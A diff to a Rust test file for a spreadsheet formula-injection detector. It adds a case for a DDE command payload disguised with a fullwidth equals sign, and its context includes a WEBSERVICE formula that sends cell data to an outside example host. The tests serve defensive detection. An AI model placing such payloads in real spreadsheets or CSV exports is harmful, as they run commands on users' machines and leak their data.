@@ -235,6 +235,7 @@ fn cells_that_are_formulas_and_cells_that_are_not() {
     ] {
         assert_eq!(marks("a.csv", &format!("name,value\r\nx,\"{cell}\"\r\n")), "", "{cell}");
     }
+    assert_eq!(marks("a.csv", "a,b\n1,\u{ff1d}cmd|'/C calc'!A0\n"), "formula dde", "in wide letters");
     assert_eq!(marks("a.tsv", "a\tb\n1\t=WEBSERVICE(\"https://a.example/\"&A1)\n"), "formula external_link");
 }
 
